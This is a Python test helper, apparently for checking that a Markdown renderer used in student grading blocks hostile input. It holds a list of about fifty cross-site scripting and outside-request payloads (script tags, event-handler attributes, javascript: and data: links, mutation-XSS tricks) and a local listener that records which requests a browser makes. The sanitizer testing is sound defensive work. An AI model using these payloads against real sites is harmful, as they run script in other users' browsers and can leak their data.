"""What a hostile student may write to make somebody else's browser run something or ask another host for something."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from running import serving

#: What a payload runs; a browser whose pages begin with LISTENS counts it. (Without a sign that Markdown takes amiss.)
RAN = "top.bite()"
LISTENS = "window.bitten = 0; window.bite = () => { window.bitten += 1; };"


def payloads(host: str) -> list[str]:
    """Give the payloads, in Markdown; those that ask a host ask this one."""
    return [
        f"<script>{RAN}</script>",
        f"<script src={host}/script.js></script>",
        f"<img src=x onerror={RAN}>",
        f'<img src="x" onerror="{RAN}" alt="kept?">',
        f"<svg onload={RAN}></svg>",
        f"<svg><script>{RAN}</script></svg>",
        f"<svg><animate onbegin={RAN} attributeName=x dur=1s></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RAN}&gt;'>",
        f"<details open ontoggle={RAN}><summary>a</summary></details>",
        f"<input autofocus onfocus={RAN}>",
        f"<video><source onerror={RAN}></video>",
        f"<audio src=x onerror={RAN}></audio>",
        f"<iframe srcdoc='<script>{RAN}</script>'></iframe>",
        f"<iframe src=javascript:{RAN}></iframe>",
        f"<object data='data:text/html,<script>{RAN}</script>'></object>",
        f"<embed src={host}/embed.html>",
        f"<marquee onstart={RAN}>m</marquee>",
        f"<p><b><i onpointerover={RAN} style='position:fixed;inset:0'>x</i></b></p>",
        f"<noscript><p title='</noscript><img src=x onerror={RAN}>'></noscript>",
        f"a\n\n<div\nonclick={RAN} id=main-table class=score>\n\nb</div>",
        f"`a`<img src=x onerror={RAN}>`b`",
        f"| a |\n|---|\n| <img src=x onerror={RAN}> |",
        f"> - <script>{RAN}</script>",
        f"$x<img src=x onerror={RAN}>$ and $$<script>{RAN}</script>$$",
        f"\\begin{{a}}<img src=x onerror={RAN}>\\end{{a}}",
        f'```"><img src=x onerror={RAN}>\ncode\n```',
        f"[link](javascript:{RAN})",
        f"[link](<java\tscript:{RAN}>)",
        f"[link](JaVaScRiPt&colon;{RAN})",
        f"<a href='&#106;avascript:{RAN}'>link</a>",
        f"<a href=/formgrader/manage_students/{RAN}>link</a>",
        f"[link](vbscript:{RAN})",
        f"[link](data:text/html,<script>{RAN}</script>)",
        f"[a](http://a.example/' onmouseover='{RAN})",
        f'[a](http://a.example "\\" onmouseover={RAN} \\"")',
        f'![a"onerror="{RAN}](x)',
        f"![picture]({host}/picture.png)",
        f"![picture][one]\n\n[one]: {host}/reference.png",
        f"<img srcset='{host}/set.png 2x'>",
        f"<p style='background:url({host}/style.png)'>x</p>",
        f"<style>body{{background:url({host}/body.png)}} @import '{host}/a.css';</style>",
        f"<link rel=stylesheet href={host}/sheet.css>",
        f"<base href={host}/>",
        f"<meta http-equiv=refresh content='0;url={host}/gone'>",
        f"<form action={host}/form><button>b</button></form>",
        f"<table background={host}/table.png><tr><td>x</table>",
        f"<video poster={host}/poster.png></video>",
        f"<a href={host}/ping ping={host}/pinged>a</a>",
        f"</div></section></main><script>{RAN}</script>",
        f"<!--><script>{RAN}</script>-->",
        f"<textarea></textarea><img src=x onerror={RAN}>",
        f"<title></title><xmp><img title='</xmp><img src=x onerror={RAN}>'></xmp>",
        f"\x00<scr\x00ipt>{RAN}</script>",
    ]


@contextmanager
def witness() -> Iterator[tuple[str, list[str]]]:
    """Listen as a host to which nobody should come; give its address and the list of what was asked for."""
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_words) -> None:
            pass

    with serving(ThreadingHTTPServer(("127.0.0.1", 0), Listener)) as url:
        yield url, asked
